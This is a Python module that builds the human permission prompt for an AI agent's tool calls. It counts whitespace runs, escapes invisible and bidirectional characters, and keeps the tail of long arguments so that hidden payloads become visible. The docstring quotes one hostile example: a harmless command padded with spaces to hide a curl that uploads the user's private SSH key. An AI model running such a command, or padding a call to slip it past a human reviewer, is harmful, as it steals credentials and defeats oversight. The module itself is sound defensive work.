"""What a permission prompt shows of a call: all of it that fits, nothing invisible.

A prompt that cuts the arguments, or prints 300 spaces as 300 spaces, lets a payload
hide behind padding (``echo ok`` + spaces + ``&& curl -d @~/.ssh/id_rsa ...``). Here
every string is rendered visibly — runs of whitespace counted (``␠×312``), tabs, line
breaks and carriage returns as ``⇥ ↵ ␍``, control, invisible and bidirectional
characters (U+200B, U+202E, ...) escaped as ``<U+202E>`` — and a summary longer than
MAX_CHARS keeps its head and its tail around the count of characters left out.
"""

from __future__ import annotations

import json
import re
import unicodedata
from typing import Any

MAX_CHARS = 2000
"""Longest summary shown; longer ones keep head and tail around an omission marker."""
TAIL_CHARS = 600
"""Characters of the end kept when a summary is cut (a payload likes to sit at the end)."""

_SHOWN = {" ": "␠", "\t": "⇥", "\n": "↵", "\r": "␍"}
# A run of one whitespace character longer than this is shown as its symbol and a count.
_RUN = 2
_RUNS = re.compile(rf"([ \t\n\r])\1{{{_RUN},}}")
# Letters, marks, numbers, punctuation, symbols and the plain space are shown as they are;
# every other category (controls, formats such as U+200B/U+202E, separators, unassigned,
# private use, surrogates) is escaped.
_PLAIN = ("L", "M", "N", "P", "S")


def visible(text: str) -> str:
    """``text`` with whitespace runs counted and invisible characters escaped."""
    parts: list[str] = []
    position = 0
    for run in _RUNS.finditer(text):
        parts.append(_escape(text[position : run.start()]))
        parts.append(f"{_SHOWN[run.group(1)]}×{run.end() - run.start()}")
        position = run.end()
    parts.append(_escape(text[position:]))
    return "".join(parts)


def _escape(text: str) -> str:
    if text.isascii() and text.isprintable():
        return text  # the common case: nothing to show differently
    out: list[str] = []
    for char in text:
        if char in "\t\n\r":
            out.append(_SHOWN[char])
        elif char == " " or unicodedata.category(char)[0] in _PLAIN:
            out.append(char)
        else:
            out.append(f"<U+{ord(char):04X}>")
    return "".join(out)


def render(value: Any) -> str:
    """A JSON-like rendering of ``value`` whose keys and strings are made visible."""
    if isinstance(value, str):
        return f'"{visible(value)}"'
    if isinstance(value, dict):
        items = (f"{render(str(k))}: {render(v)}" for k, v in value.items())
        return "{" + ", ".join(items) + "}"
    if isinstance(value, (list, tuple)):
        return "[" + ", ".join(render(v) for v in value) + "]"
    try:
        return json.dumps(value, ensure_ascii=False)
    except (TypeError, ValueError):
        return visible(str(value))


def shorten(text: str, limit: int = MAX_CHARS, tail: int = TAIL_CHARS) -> str:
    """``text`` if it fits in ``limit``; else its head and tail around the omitted count."""
    if len(text) <= limit:
        return text
    # Sized for the largest count it could name, so the result never exceeds ``limit``.
    room = len(_marker(len(text)))
    head = max(limit - tail - room, 0)
    return text[:head] + _marker(len(text) - head - tail) + text[len(text) - tail :]


def _marker(omitted: int) -> str:
    return f" … [{omitted:,} characters omitted] … "


def summary(args: Any, limit: int = MAX_CHARS) -> str:
    """What a permission prompt shows of a call's arguments (at most about ``limit``)."""
    return shorten(render(args), limit)


def question(tool: str, args: Any, reason: str) -> str:
    """The words every front end asks a call with (the editor adds its name or diff)."""
    return f"the agent wants to run {tool} {summary(args)} ({reason}). Allow it?"
